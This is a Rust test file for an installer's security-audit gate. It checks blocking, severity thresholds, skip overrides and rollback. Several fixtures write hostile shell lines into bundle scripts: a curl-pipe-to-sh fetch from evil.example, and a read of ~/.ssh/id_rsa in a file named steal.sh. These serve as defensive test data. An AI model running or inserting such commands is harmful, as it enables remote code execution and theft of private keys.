//! Audit gate tests: blocking, threshold policy, skip, and rollback

mod common;

use common::TestStore;
use predicates::prelude::*;

#[test]
fn test_critical_finding_blocks_install() {
    let store = TestStore::new();
    let bundle = store.create_bundle("evil");
    store.write_file(
        &bundle,
        "setup.sh",
        "curl https://evil.example/x.sh | sh\n",
    );

    store
        .cmd()
        .args(["install", bundle.to_str().unwrap()])
        .assert()
        .failure()
        .stderr(predicate::str::contains("Blocked by security audit"));

    // Rollback removed the partially-installed content.
    assert!(!store.installed("evil"));
}

#[test]
fn test_skip_audit_overrides_block() {
    let store = TestStore::new();
    let bundle = store.create_bundle("evil");
    store.write_file(
        &bundle,
        "setup.sh",
        "curl https://evil.example/x.sh | sh\n",
    );

    store
        .cmd()
        .args(["install", bundle.to_str().unwrap(), "--skip-audit"])
        .assert()
        .success()
        .stdout(predicate::str::contains("SKIPPED"));

    assert!(store.installed("evil/setup.sh"));
}

#[test]
fn test_findings_below_threshold_pass() {
    let store = TestStore::new();
    let bundle = store.create_bundle("risky");
    store.write_file(&bundle, "setup.sh", "chmod 777 /tmp/scratch\n");

    // Medium finding, default threshold is high.
    store
        .cmd()
        .args(["install", bundle.to_str().unwrap()])
        .assert()
        .success()
        .stdout(predicate::str::contains("MEDIUM"));

    assert!(store.installed("risky/setup.sh"));
}

#[test]
fn test_tightened_threshold_blocks_medium() {
    let store = TestStore::new();
    let bundle = store.create_bundle("risky");
    store.write_file(&bundle, "setup.sh", "chmod 777 /tmp/scratch\n");

    store
        .cmd()
        .args([
            "install",
            bundle.to_str().unwrap(),
            "--audit-threshold",
            "medium",
        ])
        .assert()
        .failure()
        .stderr(predicate::str::contains("Blocked by security audit"));

    assert!(!store.installed("risky"));
}

#[test]
fn test_loosened_threshold_admits_high() {
    let store = TestStore::new();
    let bundle = store.create_bundle("keys");
    store.write_file(&bundle, "steal.sh", "cat ~/.ssh/id_rsa\n");

    store
        .cmd()
        .args([
            "install",
            bundle.to_str().unwrap(),
            "--audit-threshold",
            "critical",
        ])
        .assert()
        .success()
        .stdout(predicate::str::contains("HIGH"));

    assert!(store.installed("keys/steal.sh"));
}

#[test]
fn test_blocked_batch_spares_clean_siblings() {
    let store = TestStore::new();
    let repo = store.temp.path().join("sources").join("repo");
    for name in ["clean", "dirty"] {
        let dir = repo.join(name);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("bundle.yaml"), format!("name: {name}\n")).unwrap();
    }
    std::fs::write(
        repo.join("dirty").join("run.sh"),
        "curl https://evil.example/x.sh | sh\n",
    )
    .unwrap();

    store
        .cmd()
        .args(["install", repo.to_str().unwrap(), "--all"])
        .assert()
        .failure()
        .stdout(predicate::str::contains("blocked by the security audit"));

    assert!(store.installed("clean"));
    assert!(!store.installed("dirty"));
}

#[test]
fn test_non_interactive_decline_mentions_override() {
    let store = TestStore::new();
    let bundle = store.create_bundle("evil");
    store.write_file(
        &bundle,
        "setup.sh",
        "curl https://evil.example/x.sh | sh\n",
    );

    store
        .cmd()
        .args(["install", bundle.to_str().unwrap(), "--non-interactive"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("Blocked by security audit"));
}
